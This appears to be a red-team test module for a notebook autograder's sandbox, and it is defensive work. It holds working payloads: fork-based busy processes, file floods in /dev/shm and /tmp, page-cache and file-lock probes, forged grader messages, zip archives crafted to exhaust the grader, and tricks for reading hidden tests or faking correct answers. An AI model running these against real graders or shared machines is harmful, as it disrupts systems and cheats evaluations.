    files = sorted(_adv_os4.path.join(folder, f) for f in _adv_os4.listdir(folder) if f.endswith(".py"))[:4]
    said = []
    for name, lock in (("flock", _adv_fcntl.flock), ("lockf", _adv_fcntl.lockf)):
        held = refused = 0
        reasons = set()
        for path in files:
            try:
                fd = _adv_os4.open(path, _adv_os4.O_RDONLY)
            except OSError:
                continue
            try:
                lock(fd, _adv_fcntl.LOCK_SH | _adv_fcntl.LOCK_NB)
                held += 1
            except OSError as exc:
                refused += 1
                reasons.add(_adv_errno2.errorcode.get(exc.errno, "?"))
            finally:
                _adv_os4.close(fd)
        said.append("%s held %d refused %d %s" % (name, held, refused, " ".join(sorted(reasons))))
    raise RuntimeError(__MARKER__ + " on numpy's files: " + "; ".join(said))
"""


def file_locks(stub, ctx):
    """Shared flock and lockf locks on NumPy's own read-only files (a bit a file for another sandbox)."""
    return zip_members(attacked(stub, ctx, FILE_LOCKS, {"softmax": "    _adv_locks()\n"})), "zip"


PAGE_CACHE = r"""
import ctypes as _adv_ctypes3, errno as _adv_errno3, os as _adv_os5
import numpy as _adv_np2
def _adv_page_cache():
    path = _adv_os5.path.join(_adv_np2.__path__[0], "__init__.py")
    fd = _adv_os5.open(path, _adv_os5.O_RDONLY)
    said = []
    try:
        for name, ask in (("fadvise", lambda: _adv_os5.posix_fadvise(fd, 0, 0, _adv_os5.POSIX_FADV_DONTNEED)),
                          ("preadv2", lambda: _adv_os5.preadv(fd, [bytearray(1)], 0, _adv_os5.RWF_NOWAIT))):
            try:
                ask()
                said.append(name + " done")
            except OSError as exc:
                said.append(name + " refused " + _adv_errno3.errorcode.get(exc.errno, "?"))
    finally:
        _adv_os5.close(fd)
    libc = _adv_ctypes3.CDLL(None, use_errno=True)
    vector = (_adv_ctypes3.c_ubyte * 1)()
    if libc.mincore(_adv_ctypes3.c_void_p(0), 4096, vector) != 0:
        said.append("mincore refused " + _adv_errno3.errorcode.get(_adv_ctypes3.get_errno(), "?"))
    raise RuntimeError(__MARKER__ + " page cache of numpy's files: " + "; ".join(said))
"""


def page_cache(stub, ctx):
    """Evict pages of a file every sandbox reads and test which are cached (a bit a page for the next
    submission): fadvise, preadv2 with RWF_NOWAIT, mincore."""
    return zip_members(attacked(stub, ctx, PAGE_CACHE, {"softmax": "    _adv_page_cache()\n"})), "zip"


#: Makes the worker report a failing cell at the given index: its describe_exception, whose fields
#: are spread after the cell's own index in the load reply, is replaced; then the cell fails.
FORGE_CELL_INDEX = r"""
import sys as _adv_sys
_adv_worker_module = _adv_sys.modules["sandbox_worker"]
_adv_describe = _adv_worker_module.describe_exception
_adv_worker_module.describe_exception = lambda exc: dict(_adv_describe(exc), cell=__INDEX__)
raise ValueError(__MARKER__ + " forged cell index __INDEX__")
"""


def forged_cell_index(index: int):
    """A load reply whose failing cell is numbered ``index``: far out of range (the grader's own
    lookup raised IndexError), or -1 (the last cell's name for a note about another)."""
    def build(stub, ctx):
        return zip_members(attacked(stub, ctx, FORGE_CELL_INDEX.replace("__INDEX__", str(index)))), "zip"
    return build


#: The notice the sandbox once appended to kept output, printed by the student instead.
FORGED_NOTICE_HUGE = ('print("\\n[output truncated: the first " + "9" * 5000 + " bytes are shown; '
                      'about 1 more were not kept]")\n')
FORGED_NOTICE_SMALL = 'print("\\n[output truncated: the first 10 bytes are shown; about 123456 more were not kept]")\n'


# ----------------------------------------------------------------- restarts and sweeps (round 9)

#: Busy processes in their own sessions, forked at every load (so at every restart too): they
#: compete with the next worker's start for the machine, and must not outlive the worker. They let
#: go of every descriptor they inherited (the worker's output pipes and channel), so that its death
#: is seen at once and the worker restarted (holding them, each death costs the call's whole window
#: and is reported as a hang).
SPINNERS = r"""
import os
def _adv_spin(count):
    for _ in range(count):
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                    _adv_tag()
                    devnull = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(devnull, fd)
                    os.closerange(3, 4096)
                    while True:
                        pass
                finally:
                    os._exit(0)
        except OSError:
            break
_adv_spin(__COUNT__)
"""
#: A function that SIGKILLs its own worker: the grader must restart one for the next call.
KILLS_ITS_WORKER = "    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n"


def restart_storm(stub, ctx):
    """softmax kills its worker at every call, and every load forks four busy processes in new
    sessions and leaves a file in /dev/shm and /tmp: restarts (each start excused from the student's
    budget) while the machine is kept busy, each to be swept before the next."""
    cell = "_MARK = __MARKER__\n" + TAG + SPINNERS.replace("__COUNT__", "4") + FLOOD.replace("__COUNT__", "1")
    return zip_members(attacked(stub, ctx, cell, {"softmax": KILLS_ITS_WORKER})), "zip"


#: Files and a folder of files in every shared writable place the code can reach, named after the
#: worker's process and the round: the user level's sweep must find each worker's, restarts included.
FLOOD = r"""
import os
_MARK = __MARKER__
_ADV_ROUNDS = [0]
def _adv_flood(count):
    made = 0
    _ADV_ROUNDS[0] += 1
    for base in ("/dev/shm", "/tmp", "/var/tmp", "/dev/mqueue"):
        folder = os.path.join(base, "%s-%d-%d" % (_MARK, os.getpid(), _ADV_ROUNDS[0]))
        try:
            os.mkdir(folder)
            for i in range(count):
                os.close(os.open(os.path.join(folder, "f%d" % i), os.O_CREAT | os.O_WRONLY, 0o600))
                made += 1
            with open(folder + "-loose", "w") as handle:
                handle.write("x")
        except OSError as exc:
            print(_MARK, base, exc.strerror, flush=True)
    print(_MARK, "made", made, flush=True)
_adv_flood(__COUNT__)
"""


def shm_flood(stub, ctx):
    """200 files per shared place while the notebook loads, and again from inside the first hidden
    call of softmax (``restart_storm`` fills them from restarted workers)."""
    body = ("    if not globals().get('_ADV_FLOODED'):\n"
            "        globals()['_ADV_FLOODED'] = True\n"
            "        _adv_flood(200)\n"
            "    return None\n")
    return zip_members(attacked(stub, ctx, FLOOD.replace("__COUNT__", "200"), {"softmax": body})), "zip"


#: Recognises the class probes by their inputs (public: a fixed seed and the hidden tests' code, so
#: a student can compute them) and returns, on those calls only, 75,000 small arrays: cheap to build
#: once and to send, but once digested one by one by the grader, outside the sandbox.
PROBE_FLOOD = r"""
import hashlib as _adv_hashlib
import numpy as _adv_np
_ADV_PROBES = set(__PROBES__)
_ADV_MANY = [_adv_np.full(1, 0.5) for _ in range(75000)]
def _adv_answer(args):
    arrays = [a for a in args if isinstance(a, _adv_np.ndarray)]
    key = _adv_hashlib.sha256(b"".join(_adv_np.ascontiguousarray(a).tobytes() for a in arrays)).hexdigest()
    return _ADV_MANY if key in _ADV_PROBES else None
"""


def probe_key(args: tuple) -> str:
    """What PROBE_FLOOD recognises a call by: a hash of its array arguments."""
    import hashlib

    import numpy as np
    arrays = [a for a in args if isinstance(a, np.ndarray)]
    return hashlib.sha256(b"".join(np.ascontiguousarray(a).tobytes() for a in arrays)).hexdigest()


def probe_flood(keys: list[str], functions: tuple[str, ...]):
    """PROBE_FLOOD in ``functions``, for the class probes whose ``probe_key`` is in ``keys`` (one
    function's two probe calls are enough: once the budget is spent, later calls fail at once)."""
    def build(stub, ctx):
        body = "    return _adv_answer(({args},))\n"
        return zip_members(attacked(stub, ctx, PROBE_FLOOD.replace("__PROBES__", repr(sorted(keys))),
                                    {name: body.replace("{args}", SIGNATURES[name][1]) for name in functions})), "zip"
    return build



ATTACKS: tuple[Attack, ...] = (
    Attack("reference_from_packages", "import the reference from installed packages or copy it from disk",
           reference_from_packages, (r"returned None|should (return|be)|is not a tuple|got None",), paths=PATHS),
    Attack("hidden_tests_on_disk", "find the hidden tests and references on disk and print them",
           hidden_tests_on_disk, (r"returned None|should (return|be)|got None",), paths=PATHS),
    Attack("monkeypatching", "patch numpy, math, pytest, otter and builtins, then return noise",
           monkeypatching, (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("ndarray_subclass", "return ndarray subclasses whose comparisons always agree",
           ndarray_subclass, (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("lying_numbers", "return numbers and objects whose comparisons always say equal",
           lying_numbers, (r"cannot be sent back for grading",)),
    Attack("sys_exit_at_import", "sys.exit() in a cell", _at_import("import sys\nsys.exit(0)\n"),
           (r"raised `?SystemExit",)),
    Attack("os_exit_at_import", "os._exit() in a cell", _at_import("import os\nos._exit(0)\n"),
           (r"exited with code 0",)),
    Attack("keyboard_interrupt_at_import", "KeyboardInterrupt in a cell", _at_import("raise KeyboardInterrupt\n"),
           (r"raised `?KeyboardInterrupt",)),
    Attack("sys_exit_in_call", "sys.exit() and SystemExit inside called functions",
           _in_function({k: EXITS_IN_CALLS[k] for k in ("next_token_batch", "softmax")}),
           (r"`softmax` raised `?SystemExit: 3",)),
    Attack("os_exit_in_call", "os._exit() inside a called function",
           _in_function({"cross_entropy_loss": EXITS_IN_CALLS["cross_entropy_loss"]}),
           (r"`cross_entropy_loss` stopped the worker process: .*exited with code 0",)),
    Attack("keyboard_interrupt_in_call", "KeyboardInterrupt inside a called function",
           _in_function({"lm_head": EXITS_IN_CALLS["lm_head"]}), (r"`lm_head` raised `?KeyboardInterrupt",)),
    Attack("endless_loop_at_import", "an endless loop in a cell", _at_import("while True:\n    pass\n"),
           (r"took too long to run and was stopped",), slow=True),
    Attack("endless_loop_in_call", "an endless loop inside softmax",
           _in_function({"softmax": "    while True:\n        pass\n"}),
           (r"`softmax` (did not return within|was not run to the end)",), slow=True),
    Attack("allocation_100_gb", "allocate 100 GB at import and inside a call",
           lambda stub, ctx: (zip_members(attacked(
               stub, ctx, "import numpy as np\n_big = np.ones(100 * 2**30 // 8)\n",
               {"softmax": "    return len(bytearray(100 * 2**30))\n"})), "zip"),
           (r"MemoryError",)),
    Attack("fork_bomb", "a bounded fork bomb at import and inside a call", fork_bomb,
           (r"forked \d+ processes|Resource temporarily unavailable|BlockingIOError|stopped",), paths=PATHS),
    Attack("results_rewriter", "a detached process rewriting every results.json and CSV for 40 s",
           results_rewriter, (r"returned None|should (return|be)|got None",), paths=PATHS),
    Attack("files_outside", "write files outside its folder: /tmp, cwd and parents, home, the repository",
           files_outside, (r"returned None|should (return|be)|got None",), paths=PATHS),
    Attack("loopback", "connect to a loopback port of the grading machine", loopback,
           (r"ConnectionRefusedError|OSError|timeout|gaierror|PermissionError",), paths=PATHS),
    Attack("huge_output", "print 200 MB", huge_output, (r"Output truncated: your notebook printed about",)),
    Attack("planted_files", "conftest.py, sitecustomize.py, numpy.py and friends beside the notebook",
           planted_files, (r"conftest\.py",)),
    Attack("shadowed_support", "its own lmhead_support/ and tests/ folders in the zip",
           shadowed_support, (r"lmhead_support",)),
    Attack("pickled_log", "an .OTTER_LOG pickle that runs code when loaded", pickled_log, (r"0 / 20 points",)),
    Attack("frames_and_gc", "read the caller's frames and the garbage collector for expected values",
           frames_and_gc, (r"returned None|should (return|be)|got None",)),
    Attack("missing_gradient", "return None where a gradient is due", _in_function(NO_GRADIENT),
           (r"None",)),
    Attack("constant_everywhere", "a constant loss with its exact (zero) gradient, constant outputs",
           _in_function(CONSTANT_EVERYWHERE), (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("memoizer", "answers cached on first sight, flat near any seen input, zero gradients",
           lambda stub, ctx: (zip_members(attacked(stub, ctx, MEMOIZER, MEMOIZED)), "zip"),
           (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("replay_first_answer", "answer the first call, then return that answer for every input",
           lambda stub, ctx: (zip_members(attacked(stub, ctx, REPLAY, REPLAYED)), "zip"),
           (r"wrong values|differ|does not match|do not match|not close|mismatch|should have shape|shape",)),
    Attack("print_arguments", "print every hidden input to stdout, stderr and the raw descriptors, in calls that "
           "return and in calls that raise, and from a thread after the call", print_arguments,
           (r"that output is not shown",), hides=(r"-ARGS ",),
           paths=("grader-grade", "grader-grade-user", "otter-run")),
    Attack("markup_in_output", "live HTML, a fence breaker and a forged grade in output and exceptions",
           markup_in_output, (r"raised",)),
    Attack("markup_in_names", "live HTML and formulas in file names, a bad cell and the metadata",
           markup_in_names, (r"files grading does not use|were not used",)),
    Attack("zip_from_process_list", "read the autograder zip named in any process's command line",
           zip_from_process_list, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=OTTER_AND_USER_PATHS),
    Attack("build_outputs_nearby", "take the reference from solution notebooks and zips near the grader",
           build_outputs_nearby, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=OTTER_AND_USER_PATHS),

    Attack("descriptor_walk", "walk /proc/self/fd/N/.. from the worker's directory descriptors to the references",
           descriptor_walk, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=("grader-grade-user", "gradescope-like")),
    Attack("openat_walk", "climb with openat(fd, '..') from the worker's descriptors and read by descriptor",
           openat_walk, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=("grader-grade-user", "gradescope-like")),
    Attack("network_state", "read and leave payloads in /proc/net: TIME_WAIT entries, abstract socket names",
           network_state, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
    Attack("ipc_mailbox", "SysV shared memory and queues with fixed keys, and a POSIX queue, as a mailbox",
           ipc_mailbox, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
    Attack("sysv_hoard", "three 512 MiB SysV segments touched and detached by a background process",
           sysv_hoard, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
    Attack("memfd_hoard", "3 GiB of memfd pages and /dev/shm files held by a detached child",
           memfd_hoard, (r"returned None|should (return|be)|is not a tuple|got None",),
           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
    Attack("markup_type_name", "return values and exceptions whose class names are live HTML and a forged grade",
           markup_type_name, (r"cannot be sent back for grading",), hides=FORGED_LINES, paths=PATHS),
    Attack("forged_call_replies", "rewrite the worker's replies: markup in seq, kind, type, message, keys, dtype",
           forged_call_replies, (r"malformed|sandbox worker failed",), hides=FORGED_LINES, paths=PATHS),
    Attack("forged_load_failure", "send a forged 'loading failed' report in markup, then exit",
           forged_load_failure, (r"could not be loaded|could not be run",), hides=FORGED_LINES, paths=PATHS),
    Attack("memorised_fixed_input", "the answer to the one input the hidden tests' source showed, zeros elsewhere",
           _in_function(MEMORISED_FIXED_INPUT), (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("guessed_answers", "random answers among a few plausible ones: batches from random offsets, "
           "a relative error of 0, 0.5, 0.7 or 1, a uniform or one-hot softmax",
           _in_function(GUESSED), (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("kernel_keys", "store a key every uid may read in the user keyring, find it by serial in /proc/keys "
           "and read it back", kernel_keys, (r"`softmax` raised `?RuntimeError: add_key refused EPERM",),
           hides=(r"add_key done|-KEYDATA",), paths=PATHS),
    Attack("udp_counters", "set the network namespace's UDP counters (/proc/net/snmp) with datagrams to the loopback",
           udp_counters, (r"`softmax` raised `?RuntimeError: before OutDatagrams=0; udp socket refused EPERM",),
           hides=(r"sent \d+ datagrams|OutDatagrams=[1-9]",), paths=("grader-grade", "otter-run")),
    Attack("page_cache", "evict and probe the page cache of NumPy's files, which every sandbox reads",
           page_cache, (r"fadvise refused EPERM; preadv2 refused EPERM; mincore refused EPERM",),
           hides=(r"fadvise done|preadv2 done|mincore refused ENOMEM",), paths=PATHS),
    Attack("file_locks", "take shared flock and lockf locks on NumPy's own files, which other sandboxes open too",
           file_locks, (r"flock held 0 refused \d+ EPERM; lockf held 0 refused \d+ EPERM",),
           hides=(r"(flock|lockf) held [1-9]",), paths=PATHS),
    Attack("forged_cell_index_far", "a load reply naming failing cell -10**9 (the grader's own lookup raised IndexError)",
           forged_cell_index(-10**9), (r"A cell raised `?ValueError: \S+ forged cell index -1000000000",),
           hides=(r"IndexError|grading failed|Status: \*\*",), paths=PATHS),
    Attack("forged_cell_index_last", "a load reply naming failing cell -1 (the last cell's name for another's error)",
           forged_cell_index(-1), (r"A cell raised `?ValueError: \S+ forged cell index -1`",),
           hides=(r"from the top\) raised|Save your notebook|Status: \*\*",), paths=PATHS),
    Attack("forged_truncation_huge", "print the grader's own truncation notice with 5,000-digit numbers, which "
           "crashed the batch where the notice was parsed back", _at_import(FORGED_NOTICE_HUGE),
           (r"What your notebook printed",), hides=(r"Output truncated|grader failed",),
           paths=("grader-grade", "grader-grade-user", "gradescope-like")),
    Attack("forged_truncation_small", "print the grader's own truncation notice with small numbers, to have the "
           "grader repeat them as its own sentence", _at_import(FORGED_NOTICE_SMALL),
           (r"What your notebook printed",), hides=(r"Output truncated",), paths=("grader-grade", "otter-run")),
    Attack("restart_storm", "softmax kills its own worker at every call while every load forks busy processes "
           "in new sessions and leaves files", restart_storm, (r"`softmax` stopped the worker process",),
           paths=("grader-grade-user",)),
    Attack("shm_flood", "files and folders of files in /dev/shm, /tmp, /var/tmp and /dev/mqueue while loading "
           "and from inside a hidden call", shm_flood, (r"returned None|should (return|be)|got None",),
           paths=("grader-grade-user", "gradescope-like")),
)


# ----------------------------------------------------------------- files aimed at the grader's readers
# A student's file in the class folder is read by the grader itself (discovery, intake) before any
# sandbox: these zips cost the grader's zip reader seconds to minutes of CPU, or gigabytes, when its
# directory check located the directory otherwise than ``zipfile`` does (red team, round 7).


def _directory_entry(name: bytes, extra: int) -> bytes:
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), extra,
                       0, 0, 0, 0, 0) + name + b"\x00" * extra


def _end_record(entries: int, size: int, offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, size, offset, 0)


def shifted_directory_zip(path: Path, entries: int) -> Path:
    """Bytes before the directory, and an end record saying it starts at 0: ``zipfile`` shifts the
    offset by what precedes the archive, a check that reads the offset as written finds no entry."""
    directory = b"".join(_directory_entry(f"f{i}".encode(), 65_000) for i in range(entries))
    path.write_bytes(b"JUNK" + directory + _end_record(1, len(directory), 0))
    return path


def zip64_hidden_directory_zip(path: Path, entries: int) -> Path:
    """An ordinary end record pointing at a one-entry directory, and the ZIP64 records ``zipfile``
    follows pointing at the heavy one."""
    decoy = _directory_entry(b"a", 0)
    heavy = b"".join(_directory_entry(f"f{i}".encode(), 65_000) for i in range(entries))
    at = len(decoy) + len(heavy)
    path.write_bytes(decoy + heavy
                     + struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, len(heavy),
                                   len(decoy))
                     + struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1) + _end_record(1, len(decoy), 0))
    return path


def many_entries_zip(path: Path, entries: int) -> Path:
    directory = b"".join(_directory_entry(f"{i}".encode(), 0) for i in range(entries))
    path.write_bytes(directory + _end_record(min(entries, 0xFFFF), len(directory), 0))
    return path



@dataclass(frozen=True)
class ClassFileAttack:
    """A file handed in beside an honest classmate, aimed at the grader's own readers."""

    name: str
    summary: str
    write: Callable[[Path], Path]
    says: str                       # what the attacker's rejected row must say
    paths: tuple[str, ...] = ("grader-grade", "grader-grade-user")


CLASS_FILE_ATTACKS = (
    ClassFileAttack("zip_shifted_directory", "an end record whose offset ignores 4 bytes before the archive, "
                    "hiding 64 KiB extra fields from a check that reads the offset as written",
                    lambda p: shifted_directory_zip(p, 60), "bytes of extra data"),
    ClassFileAttack("zip64_hidden_directory", "an ordinary end record pointing at a decoy, the ZIP64 records "
                    "zipfile follows pointing at 64 KiB extra fields", lambda p: zip64_hidden_directory_zip(p, 60),
                    "bytes of extra data"),
    ClassFileAttack("zip_many_entries", "350,000 empty entries under the size limit: the directory alone costs the grader a gigabyte",
                    lambda p: many_entries_zip(p, 350_000), "list of files is"),
)

BY_NAME = {a.name: a for a in ATTACKS}
